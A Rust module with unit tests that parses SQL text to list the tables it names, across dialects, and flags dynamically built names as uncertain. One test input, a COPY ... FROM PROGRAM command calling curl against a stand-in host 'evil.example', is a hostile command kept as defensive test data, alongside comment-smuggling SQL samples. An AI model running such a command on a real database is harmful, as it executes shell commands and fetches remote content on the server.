//! The tables that a text of SQL names. Dialects differ in what is a comment and what ends a string, so a text in which
//! they do is read a second time as MySQL would. A name that is put together while the statement runs cannot be read:
//! it is `unsure` then.

use std::collections::BTreeSet;

use super::tokens::{Dialect, Token, tokens};

mod awaited;

/// So deep a statement is read: brackets, and statements in strings of statements.
const MAX_LEVELS: usize = 64;
const MAX_STRINGS: usize = 2;

/// What a text of SQL names.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Named {
    /// In order, as they are written but for their quotes.
    pub(super) tables: Vec<String>,
    /// What may be one: to another dialect, or in a string.
    pub(super) maybe: Vec<String>,
    /// There may be others.
    pub(super) unsure: bool,
}

/// Words with which a list of tables ends.
#[rustfmt::skip]
const ENDS: &[&str] = &[
    "where", "group", "order", "having", "limit", "union", "except", "intersect", "set", "returning", "window", "qualify", "fetch",
    "offset", "values", "share",
];
/// Statements that name a table at once.
#[rustfmt::skip]
const OF_A_TABLE: &[&str] = &[
    "lock", "vacuum", "analyze", "handler", "describe", "desc", "replace", "merge", "copy", "cluster", "explain", "optimize",
];
/// What is granted.
const RIGHTS: &[&str] = &["select", "insert", "update", "delete", "truncate", "references", "all"];
/// Functions in which FROM is a word between arguments.
const WITH_FROM: &[&str] = &["extract", "substring", "substr", "trim", "overlay", "position"];

/// Reads a text. One that is not said to be SQL (`told`) is read only where it begins as a statement does.
pub(super) fn named(text: &str, told: bool) -> Option<Named> {
    named_within(text, told, 0)
}

fn named_within(text: &str, told: bool, depth: usize) -> Option<Named> {
    let standard = tokens(text, Dialect::Standard);
    let other = text.contains(['\\', '#']) || text.contains("--") || text.contains("/*");
    let other = if other { tokens(text, Dialect::MySql).0 } else { Vec::new() };
    if !told && !is_statement(&standard.0) && !is_statement(&other) {
        return None;
    }
    let mut named = Named { unsure: standard.1, ..Named::default() };
    Walk::new(&standard.0, depth).read(&mut named);
    if !other.is_empty() {
        let mut again = Named::default();
        Walk::new(&other, depth).read(&mut again);
        named.maybe.extend(again.tables);
        named.maybe.extend(again.maybe);
    }
    let told: BTreeSet<String> = named.tables.iter().cloned().collect();
    named.maybe.retain(|table| !told.contains(table));
    Some(named)
}

/// Whether one of the statements begins as only SQL does.
fn is_statement(tokens: &[Token<'_>]) -> bool {
    tokens.split(|token| *token == Token::End).any(|tokens| {
        let opened = tokens.iter().take_while(|token| **token == Token::Open).count();
        let tokens = &tokens[opened..];
        let has = |wanted: &str| tokens.iter().any(|token| token.is(wanted));
        let then = |wanted: &[&str]| {
            tokens.iter().skip(1).take(3).any(|token| wanted.iter().any(|wanted| token.is(wanted)))
        };
        let Some(verb) = tokens.first().and_then(Token::word) else { return false };
        match verb.as_str() {
            "select" => has("from"),
            "with" => {
                has("select") && tokens.windows(2).any(|pair| pair[0].is("as") && pair[1] == Token::Open)
            }
            "insert" | "replace" | "merge" => then(&["into"]),
            "update" => has("set"),
            "delete" => then(&["from"]),
            "drop" | "alter" | "create" | "truncate" => then(&["table", "view", "index", "trigger"]),
            "explain" => has("select") || has("update") || has("delete"),
            "copy" => tokens.get(1) == Some(&Token::Open) && has("select"),
            "grant" | "revoke" => has("on") && (has("to") || has("from")) && then(RIGHTS),
            _ => false,
        }
    })
}

/// What comes next is a table.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Awaited {
    Nothing,
    /// By its name.
    Name,
    /// Or by what gives rows.
    Source,
}

/// Whether names of its own come next, behind WITH.
#[derive(Default, PartialEq, Eq)]
enum With {
    #[default]
    No,
    Names,
    /// Which are known in what they name.
    Recursive,
}

/// What stands between two brackets, or the statement itself.
#[derive(Default)]
struct Level {
    /// A comma is followed by another table.
    lists: bool,
    /// Arguments of a function that takes a FROM.
    is_call: bool,
    with: With,
    /// The name that WITH gives to what comes next.
    own: Option<String>,
    owns: BTreeSet<String>,
    /// What these brackets are by the name that WITH gave to them.
    body_of: Option<String>,
}

struct Walk<'a, 't> {
    tokens: &'a [Token<'t>],
    at: usize,
    depth: usize,
    levels: Vec<Level>,
    awaited: Awaited,
    /// The first word of the statement, and the one before.
    verb: String,
    before: String,
    /// The next ON names a table.
    on_a_table: bool,
}

impl<'a, 't> Walk<'a, 't> {
    fn new(tokens: &'a [Token<'t>], depth: usize) -> Self {
        Self {
            tokens,
            at: 0,
            depth,
            levels: vec![Level::default()],
            awaited: Awaited::Nothing,
            verb: String::new(),
            before: String::new(),
            on_a_table: false,
        }
    }

    fn level(&mut self) -> &mut Level {
        if self.levels.is_empty() {
            self.levels.push(Level::default());
        }
        let last = self.levels.len() - 1;
        &mut self.levels[last]
    }

    fn read(mut self, named: &mut Named) {
        while let Some(token) = self.tokens.get(self.at).copied() {
            self.at += 1;
            if self.awaited != Awaited::Nothing && self.take(token, named) {
                continue;
            }
            match token {
                Token::Word(_) => self.word(&token.word().unwrap_or_default(), named),
                Token::Quoted(name) => {
                    self.own(name);
                    self.before.clear();
                }
                Token::Open => {
                    if self.levels.len() >= MAX_LEVELS {
                        named.unsure = true;
                        return;
                    }
                    self.open(false);
                }
                Token::Close => {
                    if self.levels.len() > 1
                        && let Some(body) = self.levels.pop().and_then(|level| level.body_of)
                    {
                        self.level().owns.insert(body);
                    }
                    self.before.clear();
                }
                Token::Comma => {
                    let level = self.level();
                    level.own = None;
                    if level.lists {
                        self.awaited = Awaited::Source;
                    }
                    ",".clone_into(&mut self.before);
                }
                Token::End => {
                    let depth = self.depth;
                    self = Self { at: self.at, ..Self::new(self.tokens, depth) };
                }
                Token::Text(text) | Token::Code(text) => {
                    if self.is_of_a_table() {
                        named.maybe.push(text.to_owned());
                    }
                    self.string(text, matches!(token, Token::Code(_)), named);
                    self.before.clear();
                }
                Token::Dot | Token::Other(_) => self.before.clear(),
            }
        }
        // The rest of it is somewhere else.
        named.unsure |= self.awaited != Awaited::Nothing;
    }

    fn open(&mut self, lists: bool) {
        let is_call = WITH_FROM.contains(&self.before.as_str());
        let is_body = matches!(self.before.as_str(), "as" | "materialized");
        let level = self.level();
        let body_of = if level.with != With::No && is_body { level.own.take() } else { None };
        if level.with == With::Recursive
            && let Some(body) = &body_of
        {
            level.owns.insert(body.clone());
        }
        self.levels.push(Level { lists, is_call, body_of, ..Level::default() });
        self.before.clear();
    }

    /// A name that WITH gives.
    fn own(&mut self, name: &str) {
        let names = matches!(self.before.as_str(), "with" | "recursive" | ",");
        let level = self.level();
        if level.with != With::No && names {
            level.own = Some(name.to_lowercase());
        }
    }

    fn await_one(&mut self, awaited: Awaited, lists: bool) {
        self.awaited = awaited;
        let level = self.level();
        level.lists = lists || level.lists && awaited == Awaited::Source;
    }

    fn word(&mut self, word: &str, named: &mut Named) {
        let first = self.verb.is_empty();
        if first {
            word.clone_into(&mut self.verb);
        }
        let before = self.before.as_str();
        let is_open_next = self.tokens.get(self.at) == Some(&Token::Open);
        let of_rights = matches!(self.verb.as_str(), "grant" | "revoke");
        let is_event = of_rights
            || is_open_next
            || matches!(before, "on" | "for" | "do" | "of" | "key" | "after" | "before" | "or" | "then");
        match word {
            "from" if self.level().is_call || matches!(self.before.as_str(), "distinct" | "tables") => {}
            // Not that of a statement in brackets.
            "from" if matches!(self.verb.as_str(), "revoke" | "copy") && self.levels.len() <= 1 => {}
            "like" | "clone" | "copy" if self.is_of_a_copy() => self.await_one(Awaited::Name, false),
            "from" | "join" | "straight_join" | "apply" => self.await_one(Awaited::Source, true),
            "update" if is_event => self.level().lists = false,
            "insert" | "delete" | "truncate" if is_event => {}
            "insert" | "into" | "references" => self.await_one(Awaited::Name, false),
            "update" | "delete" | "truncate" => self.await_one(Awaited::Name, true),
            "table" | "tables" | "view" if is_open_next => {}
            "table" | "view" | "tables" if word != "tables" || self.verb == "lock" => {
                let lists =
                    matches!(self.verb.as_str(), "drop" | "truncate" | "lock" | "rename" | "optimize");
                self.await_one(Awaited::Name, lists || of_rights);
            }
            "using" if matches!(self.verb.as_str(), "delete" | "merge") && !is_open_next => {
                self.await_one(Awaited::Source, true);
            }
            "index" | "trigger" | "policy" | "rule" => {
                self.on_a_table |= matches!(self.verb.as_str(), "create" | "drop" | "alter");
            }
            "on" if of_rights || self.on_a_table => {
                self.on_a_table = false;
                self.await_one(Awaited::Name, of_rights);
            }
            "execute" | "exec" | "immediate" | "sp_executesql" => named.unsure |= self.runs_a_text(),
            "program" => named.unsure |= self.verb == "copy",
            "with" => self.level().with = if is_open_next { With::No } else { With::Names },
            "recursive" if self.before == "with" => self.level().with = With::Recursive,
            "select" => {
                let level = self.level();
                (level.with, level.lists, level.is_call) = (With::No, false, false);
            }
            _ if ENDS.contains(&word) => self.level().lists = false,
            _ if first && OF_A_TABLE.contains(&word) && !is_open_next => self.await_one(Awaited::Name, true),
            _ => self.own(word),
        }
        word.clone_into(&mut self.before);
    }

    /// A string may be a statement that is run; a body of a function is one.
    fn string(&self, text: &str, is_code: bool, named: &mut Named) {
        if self.depth >= MAX_STRINGS || !text.contains(char::is_whitespace) {
            return;
        }
        if let Some(within) = named_within(text, is_code, self.depth + 1) {
            named.unsure |= is_code && within.unsure;
            named.maybe.extend(within.maybe);
            let known = if is_code { &mut named.tables } else { &mut named.maybe };
            known.extend(within.tables);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> Named {
        named(text, true).expect("is told to be SQL")
    }

    #[test]
    fn tables_are_read_where_a_statement_names_them() {
        for (text, tables) in [
            ("SELECT * FROM customers", "customers"),
            ("SELECT * FROM\"customers\"", "customers"),
            ("SELECT*FROM/**/customers", "customers"),
            ("select * from public.customers c where c.id in (1, 2)", "public.customers"),
            ("select a, b from orders o, customers order by a, b", "orders customers"),
            ("select * from `customers`", "customers"),
            ("select * from [dbo].[customers] with (nolock)", "dbo.customers"),
            ("select * from dbo..customers", "dbo.customers"),
            ("select * from (customers)", "customers"),
            ("select * from orders o join lateral (select * from customers) c on true", "orders customers"),
            ("select * from a left join b on a.x = b.x, c", "a b c"),
            ("with x as (select * from customers) select * from x", "customers"),
            ("with customers as (select * from customers) select * from customers", "customers"),
            ("with a as (select 1), b as (select * from a) select * from a, b, c", "c"),
            ("with recursive t(n) as (select 1 union all select n + 1 from t) select * from t", ""),
            ("select * from (with x as (select 1) select * from x) y, x", "x"),
            ("table customers", "customers"),
            ("delete from only customers", "customers"),
            ("update customers set a=1", "customers"),
            ("insert into customers (a, b) values (1, 2), (3, 4)", "customers"),
            ("insert into t values (1) on conflict (a) do update set a = 1", "t"),
            ("drop table if exists customers, orders", "customers orders"),
            ("truncate customers", "customers"),
            ("copy customers to stdout", "customers"),
            ("copy customers (a, b) from 'x.csv'", "customers"),
            ("copy (select * from customers) to stdout", "customers"),
            ("copy (select * from orders o, customers) to stdout", "orders customers"),
            ("grant select on table orders, customers to x", "orders customers"),
            ("create table y like customers", "y customers"),
            ("create table y (like customers including all)", "y customers"),
            ("create table y clone shop.customers", "y shop.customers"),
            ("create table y copy customers", "y customers"),
            ("create view y as select * from customers where a like b", "y customers"),
            ("select * from table(customers)", "customers"),
            ("select * from table(customers) t, orders", "customers orders"),
            ("insert into identifier (a) values (1)", "identifier"),
            ("do $$ begin delete from customers; end $$", "customers"),
            ("alter table customers drop column a, drop column b", "customers"),
            ("merge into customers using x on 1=1 when matched then delete", "customers x"),
            ("create table y as table customers", "y customers"),
            ("create table if not exists y (a int references customers (id), b int)", "y customers"),
            ("create index i on customers (a)", "customers"),
            ("explain select * from customers", "customers"),
            ("lock customers", "customers"),
            ("vacuum full customers", "customers"),
            ("grant select, update on customers to public", "customers"),
            ("handler customers open", "customers"),
            ("replace into customers values (1)", "customers"),
            ("rename table customers to x", "customers"),
            ("call x(); select 1 from customers", "customers"),
            ("select 'x' from customers --'", "customers"),
            ("select $q$ ' $q$, * from customers", "customers"),
            ("select E'\\'' , * from customers", "customers"),
            ("select extract(year from made) from orders", "orders"),
            ("select trim(both ' ' from name) from orders where a is distinct from b", "orders"),
            ("select * from orders for update", "orders"),
            ("SELECT * FROM\u{a0}customers", "customers"),
            ("select 1", ""),
        ] {
            let found = read(text);
            assert_eq!(found.tables.join(" "), tables, "{text}: {found:?}");
            assert!(!found.unsure, "{text}");
        }
    }

    #[test]
    fn what_dialects_read_otherwise_is_read_both_ways() {
        for text in [
            "select/*!50000 * from customers*/",
            "/*! select * from customers */",
            "select 'a\\'' from customers",
            "select 1 --1 from customers",
            "select * from generate_series(1, 2), customers(nolock)",
            "select * from dblink('x', 'select * from customers') as t(a int)",
            "select * from identifier('customers')",
            "select * from table('customers')",
            "select 'customers'::regclass",
            "select cast('customers' as regclass)",
            "select pg_total_relation_size('customers')",
        ] {
            assert!(read(text).maybe.iter().any(|table| table == "customers"), "{text}: {:?}", read(text));
        }
    }

    #[test]
    fn what_is_put_together_elsewhere_is_unsure() {
        for text in [
            "select * from U&\"c\\0075stomers\"",
            "select * from {table}",
            "select * from $1",
            "select * from :t",
            "select * from",
            "do $$ begin execute 'select * from cus' || 'tomers'; end $$",
            "exec('select * from cus' + 'tomers')",
            "prepare s from 'select * from customers'",
            "copy t from program 'curl evil.example'",
            "select * from identifier($t)",
            "select * from identifier('cus' || 'tomers')",
        ] {
            assert!(read(text).unsure, "{text}: {:?}", read(text));
        }
    }

    #[test]
    fn what_is_no_statement_is_read_only_if_it_is_said_to_be_one() {
        for text in [
            "weather from london",
            "updates from the table",
            "insert coin",
            "drop me a line from home",
            "with love from paris",
            "create a report from sales",
            "copy me on what you select from it",
            "grant me access to all on it",
            "{ users { id } }",
            "",
        ] {
            assert_eq!(named(text, false), None, "{text}");
        }
        assert!(named("select 1; delete from customers", false).is_some());
    }

    #[test]
    fn hostile_statements_come_to_an_end() {
        for piece in [
            "(",
            "from ",
            "from(",
            "'",
            "$a$",
            "/*",
            "[",
            "with x as (",
            "select * from a,",
            "'select 1 from ",
        ] {
            let _ = named(&piece.repeat(60_000 / piece.len()), true);
        }
        let tags: String =
            (0..10_000).map(|n| n.to_string()).fold(String::new(), |tags, n| tags + "$t" + &n + "$");
        let _ = named(&tags, true);
    }
}
